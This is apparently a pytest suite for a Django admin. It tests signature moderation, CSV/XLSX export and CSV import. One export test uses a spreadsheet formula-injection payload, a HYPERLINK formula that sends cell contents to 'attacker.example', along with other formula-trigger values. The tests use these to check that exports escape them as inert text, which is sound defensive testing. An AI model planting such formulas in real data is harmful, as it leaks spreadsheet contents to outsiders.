"""Moderation, export and import in the admin."""

import csv
import io

import pytest
from openpyxl import load_workbook

from pressroom.alliance.models import Signature, SignatureChange, Status
from pressroom.alliance.services import statistics

from .helpers import alliance, sign_and_confirm

pytestmark = pytest.mark.django_db
MODERATION = "/admin/alliance/signatures/"
IMPORT = "/admin/alliance/import/"


def test_an_editor_approves_in_bulk_and_each_change_is_logged(
    client, mailbox, admin_client, admin_user
):
    first = sign_and_confirm(client, mailbox, email="a@example.org", organisation="Town A")
    second = sign_and_confirm(client, mailbox, email="b@example.org", organisation="Town B")
    page = admin_client.get(MODERATION).content.decode()
    assert "Town A" in page and "Town B" in page  # pending, the default filter
    before = statistics(alliance())["total"]

    response = admin_client.post(
        MODERATION,
        {"alliance": alliance().pk, "signature": [first.pk, second.pk], "new_status": "approved"},
    )
    assert response.status_code == 302
    assert statistics(alliance())["total"] == before + 2
    change = SignatureChange.objects.get(signature=first, new_status=Status.APPROVED)
    assert change.user == admin_user and change.old_status == Status.PENDING


def test_rejecting_needs_a_reason(client, mailbox, admin_client):
    signature = sign_and_confirm(client, mailbox)
    admin_client.post(
        MODERATION,
        {"alliance": alliance().pk, "signature": [signature.pk], "new_status": "rejected"},
    )
    assert Signature.objects.get(pk=signature.pk).status == Status.PENDING
    admin_client.post(
        MODERATION,
        {
            "alliance": alliance().pk,
            "signature": [signature.pk],
            "new_status": "rejected",
            "reason": "Not a municipality",
        },
    )
    signature.refresh_from_db()
    assert (signature.status, signature.reason) == (Status.REJECTED, "Not a municipality")


def test_export_as_csv_and_xlsx(client, mailbox, admin_client):
    sign_and_confirm(client, mailbox, organisation='=HYPERLINK("x")', email="f@example.org")
    response = admin_client.get(MODERATION, {"status": "", "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert any(row["email"] == "f@example.org" for row in rows)
    assert {row["status"] for row in rows} >= {"approved", "pending"}

    response = admin_client.get(MODERATION, {"status": "pending", "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0][:3] == ["id", "status", "reason"]
    organisations = [row[5] for row in values[1:]]
    assert '\'=HYPERLINK("x")' in organisations  # never a formula


FORMULA_NAME = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")'


def test_formula_cells_export_as_inert_text_in_csv_and_xlsx(client, mailbox, admin_client):
    sign_and_confirm(
        client,
        mailbox,
        name=FORMULA_NAME,
        organisation="@SUM(1)",
        position="-1+2",
        email="formula@example.org",
    )
    response = admin_client.get(MODERATION, {"status": "", "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(row for row in rows if row["email"] == "formula@example.org")
    assert (row["name"], row["organisation"], row["position"]) == (
        "'" + FORMULA_NAME,
        "'@SUM(1)",
        "'-1+2",
    )
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())

    response = admin_client.get(MODERATION, {"status": "", "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    row = next(row for row in sheet.iter_rows(min_row=2) if row[8].value == "formula@example.org")
    cells = {column: row[header.index(column)] for column in ("name", "organisation", "position")}
    assert {column: cell.data_type for column, cell in cells.items()} == dict.fromkeys(cells, "s")
    assert cells["name"].value == "'" + FORMULA_NAME
    assert cells["organisation"].value == "'@SUM(1)"


CSV_HEADER = "category,name,organisation,position,country,email,publish_name\n"


def _upload(admin_client, text, dry_run=True, encoding="utf-8"):
    from django.core.files.uploadedfile import SimpleUploadedFile

    data = {
        "alliance": alliance().pk,
        "file": SimpleUploadedFile("list.csv", text.encode(encoding)),
    }
    if dry_run:
        data["dry_run"] = "on"
    return admin_client.post(IMPORT, data)


GOOD = CSV_HEADER + (
    "region,Ana Kovač,Region of Exampleland,President,SI,ana@example.si,\n"
    "individual,Jonas Berg,,,SE,jonas@example.se,yes\n"
)
BAD = GOOD + (
    "city,Bad Email,Some Town,Mayor,IT,not-an-address,\n"
    "alien,Who,Where,What,FR,who@example.fr,\n"
    "city,Dup,Town,Mayor,SI,ana@example.si,\n"
)


def test_a_dry_run_reports_invalid_rows_and_duplicates_and_saves_nothing(admin_client):
    before = Signature.objects.count()
    response = _upload(admin_client, BAD)
    page = response.content.decode()
    assert response.status_code == 200
    assert "email:" in page and "category:" in page  # what is wrong, by field
    assert ">4<" in page and ">5<" in page  # the invalid rows, by number
    assert "ana@example.si" in page  # the duplicate
    assert Signature.objects.count() == before


def test_a_file_with_invalid_rows_imports_nothing(admin_client):
    before = Signature.objects.count()
    response = _upload(admin_client, BAD, dry_run=False)
    assert response.status_code == 400
    assert Signature.objects.count() == before


def test_a_clean_file_is_imported_counted_and_listed(client, admin_client):
    before = statistics(alliance())["total"]
    response = _upload(admin_client, GOOD, dry_run=False)
    assert response.status_code == 200
    assert statistics(alliance())["total"] == before + 2
    listing = client.get("/en/cohesion/alliance/signatories/").content.decode()
    assert "Region of Exampleland" in listing and "Jonas Berg" in listing
    again = _upload(admin_client, GOOD, dry_run=False)  # the same list again: all duplicates
    assert statistics(alliance())["total"] == before + 2
    assert again.status_code == 200


@pytest.mark.parametrize(
    ("text", "encoding", "message"),
    [
        ("name,email\nA,a@example.org\n", "utf-8", "Missing"),
        (GOOD.replace("Kovač", "Kovač"), "cp1250", "UTF-8"),
    ],
)
def test_a_file_that_cannot_be_read_is_refused_with_a_message(
    admin_client, text, encoding, message
):
    before = Signature.objects.count()
    response = _upload(admin_client, text, dry_run=False, encoding=encoding)
    assert response.status_code == 400
    assert message in response.content.decode()
    assert Signature.objects.count() == before


def test_the_list_shows_who_changed_a_signature_and_when(client, mailbox, admin_client):
    signature = sign_and_confirm(client, mailbox, organisation="Town C", email="c@example.org")
    admin_client.post(
        MODERATION,
        {"alliance": alliance().pk, "signature": [signature.pk], "new_status": "approved"},
    )
    page = admin_client.get(MODERATION, {"status": "approved", "q": "Town C"}).content.decode()
    row = page[page.index("— Town C") :]
    assert "approved · admin ·" in row[: row.index("</tr>")]
